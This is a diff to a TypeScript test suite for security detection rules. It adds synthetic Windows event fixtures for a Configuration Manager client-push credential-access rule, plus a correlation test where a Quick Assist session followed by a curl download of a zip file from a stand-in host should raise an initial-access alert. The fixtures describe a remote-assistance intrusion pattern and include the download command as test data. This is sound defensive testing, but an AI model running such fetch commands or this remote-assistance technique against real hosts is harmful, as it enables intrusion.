@@ -26,6 +26,7 @@ const mssql = (statement: string): Ev => win('Application', 'MSSQLSERVER', 33205
 const quickAssist = (text: string): Ev => win('Application', 'Quick Assist', 0, { Data: [text] });
 const AGENT = 'C:\\Program Files\\Microsoft Azure AD Connect Authentication Agent\\AzureADConnectAuthenticationAgentService.exe';
 const MSBUILD = 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe';
+const SMSEXEC = 'C:\\Program Files\\Microsoft Configuration Manager\\bin\\x64\\smsexec.exe';
 const VEEAM = 'C:\\Program Files\\Veeam\\Backup and Replication\\Backup\\';
 
 /** [rule title, level, a tactic it carries, the event it is written for, a benign near miss]. */
@@ -252,6 +253,9 @@ const cases: CatalogueCase[] = [
     proc('C:\\Users\\maria\\AppData\\Local\\Temp\\setup\\installer.exe', '"installer.exe" --console', 'C:\\Users\\maria\\Downloads\\setup.exe')],
   ['Quick Assist Session Given Full Control', 'low', 'command-and-control',
     quickAssist('{"action":"setsharingmode","mode":"FullControl"}'), quickAssist('{"action":"setsharingmode","mode":"ViewOnly"}')],
+  ["Configuration Manager Client Push Authenticates With The Site Server's Own Account", 'medium', 'credential-access',
+    sec(4648, { ...subj, SubjectUserName: 'SCCM01$', TargetUserName: 'SCCM01$', TargetDomainName: 'CORP', TargetServerName: '10.20.44.77', ProcessId: '0xd34', ProcessName: SMSEXEC }),
+    sec(4648, { ...subj, SubjectUserName: 'SCCM01$', TargetUserName: 'svc-sccmpush', TargetDomainName: 'CORP', TargetServerName: 'ws-0877.corp.example', ProcessId: '0xd34', ProcessName: SMSEXEC })],
 ];
 
 describeCatalogue('built-in rules from a detection catalogue of access, movement, discovery, collection and impact', cases);
@@ -282,6 +286,21 @@ describe('built-in rules from a detection catalogue of access and movement: corr
     expect(h?.tactics).toContain('credential-access');
     expect(titles([tgt('joão.ribeiro', '::ffff:10.40.2.199')])).not.toContain(ROAST);
     expect(titles([tgt('joão.ribeiro', '::ffff:10.40.2.11'), tgt('svc_impressão', '::ffff:10.40.2.12')])).not.toContain(ROAST);
+  });
+
+  it('Quick Assist then a command-line download on the same host within thirty minutes is initial access; either alone, or the download first, is not', () => {
+    const SESSION = 'Files Fetched From The Web By A Command-Line Tool During A Quick Assist Session';
+    const QA = 'C:\\Program Files\\WindowsApps\\MicrosoftCorporationII.QuickAssist_2.0.35.0_x64__8wekyb3d8bbwe\\Microsoft.RemoteAssistance.QuickAssist\\QuickAssist.exe';
+    const assist = (): Ev => proc(QA, `"${QA}"`, `${S32}svchost.exe`);
+    const curl = (): Ev => proc(`${S32}curl.exe`, 'curl  -o C:\\Users\\Public\\s.zip https://files-drive.example/upd/s.zip');
+    const titles = (events: Ev[]): string[] => [...builtinHits(events).keys()];
+    const h = builtinHits([assist(), curl()]).get(SESSION);
+    expect(h?.level).toBe('high');
+    expect(h?.tactics).toContain('initial-access');
+    expect(titles([assist()])).not.toContain(SESSION);
+    expect(titles([curl()])).not.toContain(SESSION);
+    expect(titles([curl(), assist()])).not.toContain(SESSION);
+    expect(titles([assist(), proc(`${S32}curl.exe`, 'curl -I https://files-drive.example/')])).not.toContain(SESSION);
   });
 
   it('three different accounts locked out on one controller within minutes are reported as impact; two accounts, or one account three times, are not', () => {
